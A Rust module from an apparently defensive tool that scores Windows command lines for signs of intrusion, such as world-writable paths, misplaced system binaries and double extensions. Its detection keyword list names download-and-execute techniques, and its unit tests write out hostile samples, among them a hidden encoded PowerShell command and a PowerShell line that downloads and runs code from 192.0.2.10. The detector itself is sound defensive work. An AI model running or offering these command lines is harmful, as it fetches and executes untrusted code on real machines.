//! Command lines of Windows: which program they start, and the signs of an intruder in them.
//!
//! Few and strong signs, as for shells: places where every account can write, programs of the system used to fetch or
//! unpack, text that hides what it does, names of system programs outside their place.

use super::tree::folded;
use crate::Severity;

/// What makes a command line suspicious.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Sign {
    pub(crate) what: &'static str,
    pub(crate) severity: Severity,
}

/// Words of which all must stand in the line, in lower case.
const ATTACKS: &[(&str, &[&str])] = &[
    ("runs hidden text in PowerShell", &["frombase64string"]),
    ("runs what it downloads", &["downloadstring("]),
    ("runs what it downloads", &["downloadfile("]),
    ("runs what it downloads", &["downloaddata("]),
    ("runs what it downloads", &["net.webclient"]),
    ("runs what it downloads", &["powershell", "invoke-webrequest"]),
    ("runs what it downloads", &["powershell", "iwr ", "iex"]),
    ("runs what it downloads", &["powershell", "irm ", "iex"]),
    ("runs text it puts together", &["powershell", "invoke-expression"]),
    ("runs what it downloads", &["bitsadmin", "/transfer"]),
    ("runs what it downloads", &["certutil", "-urlcache"]),
    ("runs what it downloads", &["certutil", "/urlcache"]),
    ("unpacks a hidden program", &["certutil", "-decode"]),
    ("runs a script from the network", &["mshta", "http"]),
    ("runs a script in mshta", &["mshta", "javascript:"]),
    ("runs a script in mshta", &["mshta", "vbscript:"]),
    ("runs a script from the network", &["regsvr32", "scrobj.dll"]),
    ("runs a script in rundll32", &["rundll32", "javascript:"]),
    ("passes its words to a named pipe, as tools of intruders do", &["echo ", "\\\\.\\pipe\\"]),
];

/// Places where every account can write, or where nothing belongs, in lower case with `/`.
const SHARED: &[&str] = &[
    "/users/public/",
    "/windows/temp/",
    "/temp/",
    "/tmp/",
    "/perflogs/",
    "/$recycle.bin/",
    "/recycler/",
    "/windows/tasks/",
    "/windows/debug/",
    "/windows/tracing/",
    "/windows/system32/spool/drivers/color/",
    "/windows/system32/microsoft/crypto/rsa/machinekeys/",
    "/windows/system32/tasks/",
    "/windows/fonts/",
    "/windows/help/",
    "/windows/media/",
    "/system volume information/",
];

/// Programs of the system that belong in one place only.
pub(crate) const SYSTEM_PROGRAMS: &[&str] = &[
    "svchost.exe",
    "lsass.exe",
    "services.exe",
    "csrss.exe",
    "smss.exe",
    "wininit.exe",
    "winlogon.exe",
    "lsm.exe",
    "spoolsv.exe",
    "taskhostw.exe",
    "taskhost.exe",
    "dllhost.exe",
    "conhost.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "ctfmon.exe",
    "dwm.exe",
    "userinit.exe",
    "logonui.exe",
    "sihost.exe",
    "fontdrvhost.exe",
    "wudfhost.exe",
    "audiodg.exe",
    "searchindexer.exe",
];

/// Interpreters that run a file given to them.
const INTERPRETERS: &[&str] = &[
    "powershell.exe",
    "powershell",
    "pwsh.exe",
    "pwsh",
    "cmd.exe",
    "cmd",
    "wscript.exe",
    "wscript",
    "cscript.exe",
    "cscript",
    "mshta.exe",
    "mshta",
    "rundll32.exe",
    "rundll32",
    "regsvr32.exe",
    "regsvr32",
    "msbuild.exe",
    "installutil.exe",
];

const ENDINGS: &[&str] = &[
    ".exe", ".dll", ".sys", ".com", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
    ".ps1", ".scr", ".pif", ".cpl", ".msc", ".ocx",
];

/// Variables and beginnings that stand for a folder.
const VARIABLES: &[(&str, &str)] = &[
    ("%systemroot%", "\\windows"),
    ("%windir%", "\\windows"),
    ("\\systemroot", "\\windows"),
    ("%systemdrive%", ""),
    ("%programfiles%", "\\program files"),
    ("%programfiles(x86)%", "\\program files (x86)"),
    ("%commonprogramfiles%", "\\program files\\common files"),
    ("%commonprogramfiles(x86)%", "\\program files (x86)\\common files"),
    ("%programdata%", "\\programdata"),
    ("%allusersprofile%", "\\programdata"),
    ("%public%", "\\users\\public"),
    ("%appdata%", "%userprofile%\\appdata\\roaming"),
    ("%localappdata%", "%userprofile%\\appdata\\local"),
    ("%temp%", "%userprofile%\\appdata\\local\\temp"),
    ("%tmp%", "%userprofile%\\appdata\\local\\temp"),
    ("%comspec%", "\\windows\\system32\\cmd.exe"),
];

/// A command in lower case, with variables put in and without what stands in front of a drive.
pub(crate) fn expanded(command: &str) -> String {
    let mut out = String::from_utf8_lossy(&folded(command.trim().as_bytes())).into_owned();
    for (from, to) in VARIABLES {
        if out.contains(from) {
            out = out.replace(from, to);
        }
    }
    out.replace("\\??\\", "").replace("\\\\?\\", "")
}

/// The path of the program an expanded command starts, with `/`, from the root of its drive; and what comes behind it.
pub(crate) fn program(expanded: &str) -> (String, &str) {
    let line = expanded.trim_start();
    let (path, rest) = if let Some(quoted) = line.strip_prefix('"') {
        quoted.split_once('"').unwrap_or((quoted, ""))
    } else {
        // Without quotes a path may hold blanks; it ends behind the first known ending.
        let ends = ENDINGS.iter().filter_map(|ending| {
            line.match_indices(ending).map(|(at, _)| at.saturating_add(ending.len())).find(|end| {
                line.get(*end..)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', ',', '"', '\t']))
            })
        });
        let end = ends.min().unwrap_or_else(|| line.find(' ').unwrap_or(line.len()));
        line.split_at_checked(end).unwrap_or((line, ""))
    };
    let mut path = path.trim().replace('\\', "/");
    if path.get(1..2) == Some(":") {
        path = path.get(2..).unwrap_or("").to_owned();
    }
    // Relative to the folder of the system, as services and drivers are written.
    for start in ["system32/", "syswow64/"] {
        if path.starts_with(start) {
            path = format!("/windows/{path}");
        }
    }
    (path, rest)
}

/// The last name of a path.
pub(crate) fn name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The sign of an intruder in a command, the worst first.
pub(crate) fn sign(command: &str) -> Option<Sign> {
    let line = expanded(command);
    let all = ATTACKS.iter().find(|(_, words)| words.iter().all(|word| line.contains(word)));
    if let Some((what, _)) = all {
        return Some(Sign { what, severity: Severity::Critical });
    }
    let (path, rest) = program(&line);
    let program_name = name(&path);
    let is_powershell = program_name.starts_with("powershell") || program_name.starts_with("pwsh");
    if (is_powershell || line.contains("powershell")) && has_encoded(&line) {
        return Some(Sign { what: "runs hidden text in PowerShell", severity: Severity::Critical });
    }
    let high = |what| Some(Sign { what, severity: Severity::High });
    if is_shared(&path) {
        return high("the program lies where everybody can write, or where no program belongs");
    }
    if path.starts_with("//") {
        return high("the program lies on another machine");
    }
    if is_misplaced(&path) {
        return high("it has the name of a program of the system and lies elsewhere");
    }
    if path.get(2..).is_some_and(|path| path.contains(':')) {
        return high("the program is an alternate data stream");
    }
    if is_doubled(program_name) {
        return high("the name has an ending that hides the real one");
    }
    if INTERPRETERS.contains(&program_name) {
        let arguments = rest.replace('\\', "/");
        if SHARED.iter().any(|place| arguments.contains(place))
            || arguments.contains("/appdata/local/temp/")
        {
            return high("an interpreter runs a file that lies where everybody can write");
        }
        let is_hidden = is_powershell
            && (arguments.contains("-w hid") || arguments.contains("-windowstyle hid"));
        if is_hidden || arguments.contains("/appdata/") {
            let what = "an interpreter runs a file of a person, or without a window";
            return Some(Sign { what, severity: Severity::Medium });
        }
        if arguments.contains("http://") || arguments.contains("https://") {
            return high("an interpreter gets an address of the network");
        }
    }
    None
}

/// Whether a path lies where everybody can write.
pub(crate) fn is_shared(path: &str) -> bool {
    SHARED.iter().any(|place| path.starts_with(place))
        || path.contains("/appdata/local/temp/")
        || path.contains("/local settings/temp/")
        // Directly in the data of all programs, which has folders only.
        || path.strip_prefix("/programdata/").is_some_and(|rest| !rest.contains('/') && rest.contains('.'))
}

/// Whether a program has a name of the system's and lies elsewhere.
pub(crate) fn is_misplaced(path: &str) -> bool {
    let at_home = [
        "/windows/system32/",
        "/windows/syswow64/",
        "/windows/winsxs/",
        "/windows/servicing/",
        "/windows/sysarm32/",
        "/windows/softwaredistribution/",
        "/windows.old/",
        "/winnt/system32/",
        "/$windows.~bt/",
        "/windows/sysnative/",
        "/$winreagent/",
        "/windows/uus/",
    ];
    path.starts_with('/')
        && SYSTEM_PROGRAMS.contains(&name(path))
        && !at_home.iter().any(|place| path.starts_with(place))
}

/// Whether an ending of documents stands in front of one of programs.
pub(crate) fn is_doubled(name: &str) -> bool {
    let documents = [
        ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".jpg", ".jpeg", ".png", ".txt", ".mp4", ".zip",
        ".htm", ".html",
    ];
    let ends = [".exe", ".scr", ".com", ".pif", ".bat", ".cmd", ".vbs", ".js", ".lnk.exe", ".hta"];
    ends.iter().any(|end| {
        name.strip_suffix(end)
            .is_some_and(|stem| documents.iter().any(|one| stem.trim_end().ends_with(one)))
    })
}

/// Whether PowerShell is given encoded commands, by any of the short forms it takes.
fn has_encoded(line: &str) -> bool {
    let mut words = line.split_whitespace();
    while let Some(word) = words.next() {
        let Some(option) = word.strip_prefix(['-', '/']) else { continue };
        let is_it = option.len() >= 2 && "encodedcommand".starts_with(option)
            || option == "e"
            || option == "ec";
        if is_it && words.next().is_some_and(|next| next.trim_matches(['"', '\'']).len() >= 16) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(command: &str) -> Option<Severity> {
        sign(command).map(|sign| sign.severity)
    }

    #[test]
    fn programs_are_found_in_command_lines() {
        let found = |command: &str| program(&expanded(command)).0;
        assert_eq!(found(r#""C:\Program Files\A B\x.exe" /s"#), "/program files/a b/x.exe");
        assert_eq!(found(r"C:\Program Files\A B\x.exe /s"), "/program files/a b/x.exe");
        assert_eq!(
            found(r"%SystemRoot%\system32\svchost.exe -k netsvcs"),
            "/windows/system32/svchost.exe"
        );
        assert_eq!(
            found(r"\SystemRoot\System32\drivers\acpi.sys"),
            "/windows/system32/drivers/acpi.sys"
        );
        assert_eq!(found(r"\??\C:\x\y.sys"), "/x/y.sys");
        assert_eq!(found("system32\\drivers\\a.sys"), "/windows/system32/drivers/a.sys");
        assert_eq!(found("explorer.exe"), "explorer.exe");
        assert_eq!(found(""), "");
    }

    #[test]
    fn signs_of_intruders_and_none_of_others() {
        for (command, wanted) in [
            (
                r"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                Severity::Critical,
            ),
            (
                r"powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')",
                Severity::Critical,
            ),
            (r"C:\Users\Public\x.exe", Severity::High),
            (r"%TEMP%\a.exe", Severity::High),
            (r"C:\Windows\svchost.exe", Severity::High),
            (r"wscript.exe C:\ProgramData\..\Users\Public\a.vbs", Severity::High),
            (r"\\192.0.2.10\share\x.exe", Severity::High),
            (r"C:\a\b.txt:evil.exe", Severity::High),
            (r"C:\Users\eve\report.pdf.exe", Severity::High),
            (r"powershell.exe -WindowStyle Hidden -File C:\a.ps1", Severity::Medium),
        ] {
            assert_eq!(severity(command), Some(wanted), "{command}");
        }
        for command in [
            r"C:\Windows\System32\svchost.exe -k netsvcs -p",
            r"%windir%\system32\SecurityHealthSystray.exe",
            r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr"#,
            r#""C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
            r"rundll32.exe C:\Windows\System32\x.dll,Start",
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        ] {
            assert_eq!(severity(command), None, "{command}");
        }
    }
}
